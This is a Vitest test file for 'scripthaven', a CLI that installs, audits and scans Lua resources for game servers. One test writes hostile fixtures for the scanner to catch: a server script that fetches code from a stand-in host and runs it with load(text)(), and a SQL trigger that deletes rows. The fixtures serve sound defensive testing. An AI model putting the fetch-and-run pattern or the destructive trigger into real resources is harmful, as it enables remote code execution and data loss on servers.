import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { readdir, writeFile } from 'node:fs/promises'
import { promisify } from 'node:util'

import { expect, test } from 'vitest'

import { sevenZipOf } from '#test-support/archives/seven-zip.ts'
import { createGameServer, publishScript, resourceFiles, startHub } from '#test-support/game-server.ts'
import { buildCli, isCliBuilt } from '#tools/cli-bundle.mjs'
import { inRoot, root } from '#tools/root.mjs'

const run = promisify(execFile)
if (!isCliBuilt()) await buildCli(process.execPath)
const app = await startHub()
const author = await app.createUser('scripts.upload', 'scripts.download')

/** The oldest Node that is supported, where the machine has one; otherwise the one of the project. */
const systemNode = '/usr/bin/node'
const node = existsSync(systemNode) ? systemNode : process.execPath

async function download() {
  const server = await createGameServer({ token: author.token })
  const { body, headers } = await app.request(null, 'GET', '/cli.mjs')
  // The token of the environment is for this hub.
  await writeFile(server.path('cli.mjs'), String(body))
  const scripthaven = (...args: string[]) =>
    run(node, ['cli.mjs', ...args], { cwd: server.folder, env: server.env() })
  return { server, scripthaven, body: String(body), headers }
}

test('the site serves the program with its hash and its own URL', async () => {
  const { body, headers } = await download()
  const hash = createHash('sha256').update(body)

  expect((await app.request(null, 'GET', '/cli.mjs.sha256')).body).toBe(
    `${hash.copy().digest('hex')}  cli.mjs\n`,
  )
  expect(headers.get('repr-digest')).toBe(`sha-256=:${hash.digest('base64')}:`)
  expect(body.includes(app.url)).toBe(true)
})

test('the program alone installs a .zip and a .7z from its hub, on the oldest Node', async () => {
  const { server, scripthaven } = await download()
  const zip = await publishScript(app, author, 'Zipped', resourceFiles('zipped', { needs: ['packed'] }))
  const members = resourceFiles('packed').map(({ name, content = '' }) => ({
    name: String(name),
    content: String(content),
  }))
  await publishScript(app, author, 'Packed', sevenZipOf(members), {}, '7z')

  await scripthaven('init', app.url)
  const { stderr } = await scripthaven('add', String(zip.id), '--yes')

  expect(stderr).toBe('')
  expect(await server.read('resources/[scripthaven]/packed/server.lua')).toBe("print('packed')\n")
  expect(await server.read('scripthaven.cfg')).toMatch(/ensure packed\n[^]*ensure zipped\n/)
  expect((await scripthaven('audit')).stdout).toContain('No problems found')
})

test('the program scans a resource on the oldest Node', async () => {
  const { server, scripthaven } = await download()
  await server.write('garage/fxmanifest.lua', "fx_version 'cerulean'\ngame 'gta5'\nserver_script '*.lua'\n")
  await server.write(
    'garage/server.lua',
    "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n",
  )
  await server.write('garage/install.sql', 'create trigger a after insert on b for each row delete from c;\n')

  expect((await scripthaven('scan', 'garage')).stdout).toContain('[runs-downloaded-code]')
  await expect(scripthaven('scan', 'garage', '--fail-on', 'high')).rejects.toMatchObject({ code: 1 })
})

test.each(
  'init add sync outdated update audit scan list why remove rollback sql export publish login'.split(' '),
)('%s explains itself', async (command) => {
  const { scripthaven } = await download()

  expect((await scripthaven(command, '--help')).stdout).toMatch(
    new RegExp(`Usage: node cli\\.mjs ${command}`),
  )
})

test('npm run pack:cli makes a package with the program, and ends with the exit code of npm', async () => {
  const packed = await run(process.execPath, ['tools/pack-cli.mjs'], { cwd: root })
  const archive = inRoot('.cache', 'cli', packed.stdout.trim().split('\n').at(-1) ?? '')
  const server = await createGameServer()
  await run('tar', ['-xzf', archive, '-C', server.folder])

  const { stdout } = await run(node, ['package/cli.mjs', '--version'], { cwd: server.folder })
  expect(stdout).toMatch(/^\d+\.\d+\.\d+\n$/)
  expect((await readdir(server.path('package'))).toSorted()).toEqual(['README.md', 'cli.mjs', 'package.json'])
  const failing = { ...process.env, npm_config_ignore_scripts: 'nothing', npm_config_cache: '/dev/null/x' }
  await expect(
    run(process.execPath, ['tools/pack-cli.mjs'], { cwd: root, env: failing }),
  ).rejects.toMatchObject({
    code: expect.toSatisfy((code: number) => code > 0),
  })
})
